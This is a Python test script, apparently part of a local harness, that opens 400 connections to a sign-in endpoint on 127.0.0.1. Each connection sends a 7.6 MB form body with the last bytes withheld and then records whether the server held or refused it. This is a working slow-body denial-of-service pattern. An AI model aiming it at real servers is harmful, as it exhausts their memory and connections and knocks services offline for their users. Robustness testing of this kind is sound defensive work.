"""Sign-in forms of 7.6 MiB whose last bytes are withheld; nobody needs a key for it."""

from __future__ import annotations

import socket

from attacked import Facts, Server, counted, main

FORMS, SIZE, HELD = 400, 7_600_000, 10
HEAD = (
    b"POST /sign-in HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/x-www-form-urlencoded\r\n"
    b"Content-Length: %d\r\n\r\n" % SIZE
)


def attack(server: Server) -> Facts:
    open_connections, answers = [], []
    for _ in range(FORMS):
        connection = socket.create_connection(("127.0.0.1", server.port), timeout=10)
        try:
            connection.sendall(HEAD + b"key=" + b"k" * (SIZE - HELD))
            answers.append("held")
        except OSError:
            answers.append("refused")
        open_connections.append(connection)
    for connection in open_connections:
        connection.close()
    return {"forms": counted(answers)}


if __name__ == "__main__":
    main("sign-in forms that do not end", attack, ["--keys"])
